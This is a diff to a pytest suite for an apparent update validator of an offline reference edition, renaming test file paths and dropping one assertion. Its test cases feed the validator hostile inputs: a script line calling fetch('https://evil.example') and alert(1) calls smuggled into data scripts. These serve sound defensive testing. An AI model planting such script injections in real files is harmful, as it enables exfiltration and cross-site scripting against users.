@@ -69,9 +69,9 @@ def _put(name: str, content: bytes) -> Callable[[Files], None]:
 @pytest.mark.parametrize(
     ("change", "code"),
     [
-        (_put("assets/copy.js", b"fetch('https://evil.example')"), "U08"),
+        (_put("assets/edition-notice.js", b"fetch('https://evil.example')"), "U08"),
         (_put("assets/new.js", b"alert(1)"), "U08"),
-        (_put("facts/kosovo.js", b"returnkbFacts.take('x', alert(1));\n"), "U08"),
+        (_put("facts/kosovo.js", b"returnkbShard('x', alert(1));\n"), "U08"),
         (_put("assets/edition.js", b'window.returnkbEdition = {"id":"2026.12","day":"2026-12-05"}, alert(1);\n'), "U10"),
         (_put("assets/copy.css", b".rk-badge { display: none }"), "U08"),
         (_put("assets/icon.png", b"x"), "U08"),
@@ -133,7 +133,7 @@ def test_consent_is_answered_with_what_it_means(
 def test_a_signed_update_may_bring_another_program(updates: Path, old: Edition, new: Edition) -> None:
     """The publisher's own scripts and styles change between editions."""
     dist = updates / "dist"
-    files = {**new.copy, "assets/copy.js": b"// another release\n"}
+    files = {**new.copy, "assets/edition-notice.js": b"// another release\n"}
     files.pop(MANIFEST)
     update = dist / f"{NEW_NAME}-from-2026.11.overlay.zip"
     write_update(old.copy, with_manifest(files), OLD_NAME, update)
@@ -192,7 +192,6 @@ def test_any_data_is_recognised_in_each_form(value: object) -> None:
     text = json.dumps(value, ensure_ascii=False).replace("</", "<\\/")
 
     assert is_data_script(f'returnkbShard("a.js",{text});\n')
-    assert is_data_script(f'window.returnkbFacts.take("index", {text});\n')
     assert is_data_script(f"window.returnkbEdition = {text};\n")
     assert is_data_script(f'(window.returnkbEntries=window.returnkbEntries||{{}})["a"]={text};\n')
 
@@ -245,6 +244,6 @@ def test_a_zip_bomb_is_refused_before_it_is_unpacked(tmp_path: Path, lie: bool) 
 
 def test_a_copy_without_changes_is_harmless(old: Edition) -> None:
     """The limits concern what an update changes, not what is installed."""
-    files: Mapping[str, bytes] = {**old.copy, "assets/copy.js": b"// of another release"}
+    files: Mapping[str, bytes] = {**old.copy, "assets/edition-notice.js": b"// of another release"}
 
     require_harmless(files, files)
